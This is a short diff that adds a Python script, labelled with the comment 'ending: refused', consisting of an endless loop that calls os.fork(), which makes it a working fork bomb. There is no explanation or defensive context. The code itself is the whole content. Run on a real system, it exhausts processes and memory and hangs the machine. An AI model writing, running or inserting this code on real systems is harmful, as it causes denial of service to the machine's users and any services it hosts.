@@ -1,0 +1,5 @@
+# ending: refused
+import os
+
+while True:
+    os.fork()
